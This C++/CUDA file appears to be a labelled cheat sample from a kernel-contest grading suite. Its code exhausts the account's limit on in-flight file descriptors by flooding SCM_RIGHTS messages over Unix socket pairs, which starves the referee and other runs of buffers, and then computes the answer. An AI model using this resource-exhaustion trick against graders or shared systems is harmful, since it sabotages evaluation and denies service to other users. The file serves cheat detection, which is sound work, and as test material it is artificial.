// cheat: uses up its account's limit on descriptors in flight, so that no more can be sent
// row: 64
// caught-by: no_gain
// device: any
// twin: honest-answer.cu
// case: tiny
//
// The referee lends buffers as descriptors. When the limit is reached it cannot, neither to the reference nor
// to the workers of other runs. Root has no such limit, so this harms only other accounts.
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>

#include "contestant.cuh"

namespace {

constexpr int at_once = 250;

// False when no more fit into the socket, or into the limit.
bool send_many(int socket, int descriptor) {
  char byte = 0;
  iovec part{&byte, 1};
  union {
    cmsghdr header;
    char bytes[CMSG_SPACE(sizeof(int) * at_once)];
  } control;
  memset(&control, 0, sizeof control);
  msghdr message{};
  message.msg_iov = &part;
  message.msg_iovlen = 1;
  message.msg_control = control.bytes;
  message.msg_controllen = sizeof control.bytes;
  control.header.cmsg_level = SOL_SOCKET;
  control.header.cmsg_type = SCM_RIGHTS;
  control.header.cmsg_len = CMSG_LEN(sizeof(int) * at_once);
  int* const descriptors = reinterpret_cast<int*>(CMSG_DATA(&control.header));
  for (int i = 0; i < at_once; ++i) descriptors[i] = descriptor;
  return sendmsg(socket, &message, MSG_DONTWAIT) >= 0;
}

bool fill() {
  rlimit limit{};
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  setrlimit(RLIMIT_NOFILE, &limit);
  for (int pair = 0; pair < 200; ++pair) {
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, ends) != 0) break;
    while (send_many(ends[0], ends[1])) {
    }
  }
  return true;
}

}  // namespace

void cheat::play(const Call& call) {
  static const bool filled = fill();
  if (filled) compute(call);
}
